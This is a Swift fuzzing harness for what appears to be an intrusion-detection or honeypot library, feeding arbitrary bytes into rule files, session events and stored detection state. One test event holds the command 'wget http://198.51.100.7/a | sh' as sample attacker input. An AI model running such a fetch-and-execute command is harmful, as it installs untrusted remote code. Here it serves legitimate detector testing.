import IPNetworks
import ThreatModel

@testable import Detection

/// Entry points that take any bytes and must return: for the tests here and for libFuzzer.
package enum Fuzz {
    private static let catalogue = try? DetectionCatalogue.builtIn()

    /// A rule file of anything.
    package static func ruleFile(_ bytes: [UInt8]) {
        _ = try? DetectionCatalogue(files: [("fuzz.yaml", String(decoding: bytes, as: UTF8.self))])
    }

    /// A session whose events have anything in their fields. A byte chooses protocol and kind, the next the length of what
    /// goes into every field of such an event.
    package static func session(_ bytes: [UInt8]) {
        guard let catalogue else { return }
        var session = SessionDetection()
        var rest = bytes[...]
        while let first = rest.popFirst(), let length = rest.popFirst() {
            let kind = EventKind.allCases[Int(first) % EventKind.allCases.count]
            let attackProtocol = AttackProtocol.allCases[Int(first) % AttackProtocol.allCases.count]
            let value = rest.prefix(Int(length))
            rest = rest.dropFirst(Int(length))
            var fields = EventFields()
            for name in EventVocabulary.fields(of: kind, on: attackProtocol) { fields.set(name, bytes: value) }
            let time = value.reduce(Int64(first)) { $0 &* 257 &+ Int64($1) }
            let event = SessionEvent(
                id: UUIDv7(bits: 0), session: UUIDv7(bits: 0), seq: 0, at: Timestamp(milliseconds: time),
                protocol: attackProtocol, transport: .udp, dstPort: 0, src: IPAddress(v4: 0), srcPort: 0, kind: kind,
                fields: fields)
            _ = session.observe(event, in: catalogue)
        }
        _ = session.encoded(in: catalogue)
    }

    /// A stored state of anything, used on.
    package static func state(_ bytes: [UInt8]) {
        guard let catalogue, var session = SessionDetection(encoded: bytes, in: catalogue) else { return }
        for kind in EventKind.allCases {
            _ = session.observe(event(kind, ["command": "wget http://198.51.100.7/a | sh"]), in: catalogue)
        }
        _ = session.encoded(in: catalogue)
    }

    /// A stored memory of an address of anything, used on.
    package static func addressMemory(_ bytes: [UInt8]) {
        guard let catalogue, var detection = AddressDetection(encoded: bytes, in: catalogue) else { return }
        for (number, kind) in [EventKind.connect, .auth, .auth].enumerated() {
            var session = SessionDetection()
            let event = event(kind, ["username": "a@example.org", "password": "\(number)"], seconds: Double(number))
            if let observation = session.observe(event, from: 7, in: catalogue).observation {
                _ = detection.add(observation, seenBy: .lent(organisation: 1), in: catalogue)
            }
        }
        _ = detection.encoded(in: catalogue)
    }
}
